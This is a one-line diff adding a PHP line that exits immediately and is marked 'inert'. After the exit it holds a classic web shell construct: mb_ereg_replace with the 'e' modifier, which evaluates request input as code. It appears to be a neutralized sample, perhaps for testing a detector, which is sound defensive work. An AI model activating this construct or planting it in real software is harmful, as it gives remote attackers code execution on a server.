@@ -1,0 +1,1 @@
+<?php exit; /* inert */ mb_ereg_replace('.*',$_REQUEST['op'],'','e');
